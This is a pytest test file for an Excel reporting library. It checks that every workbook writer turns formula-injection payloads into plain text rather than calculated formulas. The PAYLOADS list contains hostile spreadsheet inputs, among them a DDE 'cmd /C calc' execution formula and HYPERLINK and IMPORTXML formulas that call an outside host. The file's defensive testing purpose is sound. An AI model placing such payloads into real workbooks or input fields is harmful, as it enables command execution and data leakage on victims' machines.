"""Text that would be a formula if it could: in every column of every sheet, through everything that writes workbooks.

Every payload holds `7*191`. Nothing that Excel calculates may hold it, and no program may make 1337 of it.
"""

from __future__ import annotations

import html
import re
import subprocess
import zipfile
from collections.abc import Callable, Sequence
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest

from bvq_excel import feedback, repair, status
from bvq_excel.catalog import Catalog, load
from bvq_excel.checking.engine import checker
from bvq_excel.consolidation import Consolidation
from bvq_excel.documents import annex_workbook
from bvq_excel.documents.tables import AnnexTable, Cell, Row
from bvq_excel.hosts import headless
from bvq_excel.hosts.excel_loi import read_marks, write_marks
from bvq_excel.marks import merged
from bvq_excel.model import CheckedFile, Finding, RawWorkbook
from bvq_excel.reading import open_workbook
from bvq_excel.records import read_submissions
from bvq_excel.status import Board
from bvq_excel.workbooks import consolidated, status_book
from tests.books import RECEIVED, raw_book, submission, valid
from tests.conftest import SOFFICE
from tests.entry_books import COVER, opened, written
from tests.test_consolidation import book as typed_book
from tests.test_consolidation import together

CLOCK = datetime(2019, 6, 17, 8, 30)
MARK, RESULT = "7*191", "1337"
PAYLOADS = (
    "=7*191",
    "+7*191",
    "-7*191",
    "@SUM(7*191)",
    "\t=7*191",
    "\r=7*191",
    "\n=7*191",
    "=cmd|'/C calc 7*191'!A0",
    '=HYPERLINK("http://x.vn/?7*191","xem")',
    '=IMPORTXML("http://x.vn",7*191)',
    "＝7*191",
    "＋7*191",
    "{=7*191}",
    "'=7*191",
)
CALCULATED = re.compile(
    r"<(?:\w+:)?(?:f|formula|formula1|formula2|definedName|calculatedColumnFormula|totalsRowFormula|ddeLink|oleLink)"
    r"(?:\s[^>]*)?>([^<]*)<"
)


def calculated(path: Path) -> list[str]:
    """Everything in a workbook that a program calculates, and whatever leads out of it."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            text = archive.read(name).decode("utf-8", "replace")
            assert "externalLink" not in name
            found += map(html.unescape, CALCULATED.findall(text))
            found += [tag for tag in re.findall(r"<Relationship [^>]*External[^>]*>", text) if MARK in tag]
    return found


def texts(path: Path) -> set[str]:
    """The texts of all cells."""
    sheets = open_workbook(path).sheets.values()
    return {v.strip() for sheet in sheets for row in sheet.cells for v in row if isinstance(v, str)}


def assert_harmless(path: Path) -> None:
    """Nothing of a payload is calculated, and payloads stand there as texts."""
    assert [f for f in calculated(path) if MARK in f] == []
    assert any(MARK in text for text in texts(path)), path.name


# what the payloads stand in ---------------------------------------------------------------------------------------


def everywhere() -> RawWorkbook:
    """A workbook as a unit may send it: every payload in every column of every sheet, in the cover and in names."""
    catalog = load()
    rows = {name: [dict.fromkeys(sheet.by_key, p) for p in PAYLOADS] for name, sheet in catalog.tables.items()}
    cover = {"preparer_name": PAYLOADS[0], "signer_name": PAYLOADS[7], "signer_title": PAYLOADS[8]}
    return raw_book(cover=cover, file="=7*191.xlsx", **rows)


def in_texts() -> dict[str, list[dict[str, Any]]]:
    """Rows that are merged: every payload in every column that holds text."""
    return {
        name: [
            {c.key: (p,) if c.is_list else p for c in sheet.columns if not c.enumeration and c.type in TEXT_TYPES}
            for p in PAYLOADS
        ]
        for name, sheet in load().tables.items()
    }


TEXT_TYPES = frozenset({"text", "id", "ref", "ref_list", "phone", "email", "url", "tax_code"})


def checked(catalog: Catalog) -> CheckedFile:
    """What the check says about the workbook full of payloads."""
    read = submission(everywhere())
    return CheckedFile("=7*191.xlsx", (read,), (tuple(checker(catalog).check(read, RECEIVED)),))


def province(catalog: Catalog) -> Consolidation:
    """A consolidation that holds the payloads."""
    return together(catalog, typed_book("SCT", file="=7*191.xlsx", **in_texts()))


# the writers --------------------------------------------------------------------------------------------------------


def entry_workbook(folder: Path, catalog: Catalog) -> list[Path]:
    typed = {n: [{k: v for k, v in row.items() if not catalog.sheets[n].by_key[k].computed} for row in rows]
             for n, rows in in_texts().items()}  # fmt: skip
    return [written(folder, rows=typed, cover={**COVER, "preparer_name": PAYLOADS[0], "signer_name": PAYLOADS[7]})]


def consolidated_workbook(folder: Path, catalog: Catalog) -> list[Path]:
    consolidated.write(province(catalog), folder / "TongHop.xlsx", clock=CLOCK)
    return [folder / "TongHop.xlsx"]


def workbook_for_upward(folder: Path, catalog: Catalog) -> list[Path]:
    consolidated.write_upward(province(catalog), folder / "GuiCapTren.xlsx", clock=CLOCK)
    return [folder / "GuiCapTren.xlsx"]


def feedback_files(folder: Path, catalog: Catalog) -> list[Path]:
    made = feedback.write(catalog, [checked(catalog)], folder, RECEIVED, CLOCK, full_copy=True)
    books = [path for path in made if path.suffix == ".xlsx"]
    assert [path.name for path in books] == ["Loi_SCT.xlsx", "NOI_BO_SCT.xlsx"]
    return books


def repaired_copy(folder: Path, catalog: Catalog) -> list[Path]:
    return [repair.fix(everywhere(), catalog, RECEIVED, folder / "sua.xlsx", CLOCK, blank_rows=0).path]


def annexes(folder: Path, catalog: Catalog) -> list[Path]:
    rows = tuple(Row((Cell(p), Cell("-5", number=True))) for p in PAYLOADS)
    table = AnnexTable("PL I", "I", PAYLOADS[0], (PAYLOADS[0], PAYLOADS[8]), rows, unit=PAYLOADS[1])
    path = folder / "pl.xlsx"
    return [annex_workbook.write([table], path, title=PAYLOADS[0], made=date(2019, 6, 21))]


WRITERS: tuple[Callable[[Path, Catalog], Sequence[Path]], ...] = (
    *(entry_workbook, consolidated_workbook, workbook_for_upward),
    *(feedback_files, repaired_copy, annexes),
)


KEEPING = {entry_workbook, consolidated_workbook, repaired_copy}


@pytest.mark.parametrize("writer", WRITERS, ids=lambda w: w.__name__)
def test_no_payload_is_ever_calculated_and_all_stand_as_texts(
    writer: Callable[[Path, Catalog], Sequence[Path]], tmp_path: Path, catalog: Catalog
) -> None:
    for path in writer(tmp_path, catalog):
        assert_harmless(path)
        if writer in KEEPING:
            assert_complete(path, catalog)


def assert_complete(path: Path, catalog: Catalog) -> None:
    """Every payload stands in every column of texts."""
    raw = open_workbook(path)
    for name, sheet in catalog.tables.items():
        header, *rows = raw.sheets[name].cells[4:]
        for column in (c for c in sheet.columns if c.type == "text" and not c.computed):
            at = header.index(column.header)
            found = {str(row[at]).strip().lstrip("'") for row in rows}
            assert {p.strip().lstrip("'") for p in PAYLOADS} <= found, (name, column.key)


def test_the_status_workbook_writes_texts(tmp_path: Path, catalog: Catalog) -> None:
    result = together(catalog, typed_book("SYT", file="=7*191.xlsx", KienNghi=in_texts()["KienNghi"]))
    board = Board((status.of(result),))
    path = status_book.write(board, tmp_path / "TinhHinh.xlsx", CLOCK)
    assert [f for f in calculated(path) if MARK in f] == []


def test_the_excel_host_writes_texts_into_the_list_of_errors(tmp_path: Path, catalog: Catalog) -> None:
    app = headless.start()
    try:
        book = app.books.open(written(tmp_path, unit="MTTQ", rows={}, blank_rows=2))
        column = catalog.sheets["KienNghi"].columns[5]
        found = [
            Finding("R-CH-01", "error", f"giá trị {p} sai.", p, "MTTQ", p, "KienNghi", f"F{i}", column.key, p, p, p)
            for i, p in enumerate(PAYLOADS, 6)
        ]
        write_marks(book, merged(found, ()), {"KienNghi": "KienNghi"})
        assert len(read_marks(book)) == len(PAYLOADS)
        book.save(tmp_path / "sau.xlsx")
    finally:
        app.quit()
    assert_harmless(tmp_path / "sau.xlsx")


def test_negative_numbers_stay_numbers(tmp_path: Path, catalog: Catalog) -> None:
    price = valid("ThiTruong", price=9_000, price_prev=10_000, change_pct=-10)
    raw = raw_book(ThiTruong=[price])
    (done,) = read_submissions(raw, catalog, RECEIVED)
    typed = {k: v for k, v in price.items() if not catalog.sheets["ThiTruong"].by_key[k].computed} | {"change_pct": -10}
    result = together(catalog, typed_book("SCT", ThiTruong=[typed]))
    consolidated.write(result, tmp_path / "TongHop.xlsx", clock=CLOCK)
    header, row = [[c.value for c in r] for r in opened(tmp_path / "TongHop.xlsx")["ThiTruong"].iter_rows(min_row=5)][
        :2
    ]
    name = catalog.sheets["ThiTruong"].by_key["change_pct"].header
    assert dict(zip(header, row, strict=True))[name] == -10
    assert done.tables["ThiTruong"][0]["change_pct"] == -10


@pytest.mark.libreoffice
def test_a_spreadsheet_program_makes_no_figure_of_a_payload(tmp_path: Path, catalog: Catalog) -> None:
    (path,) = consolidated_workbook(tmp_path, catalog)
    profile = f"-env:UserInstallation=file://{tmp_path}/profile"
    target = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
    command = [str(SOFFICE), profile, "--headless", "--convert-to", target, "--outdir", str(tmp_path), str(path)]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    said = "\n".join(p.read_text(encoding="utf-8") for p in tmp_path.glob("*.csv"))
    assert said.count(MARK) > 100
    assert RESULT not in said


def test_there_are_fourteen_payloads() -> None:
    assert len(set(PAYLOADS)) == 14
    assert all(MARK in payload for payload in PAYLOADS)
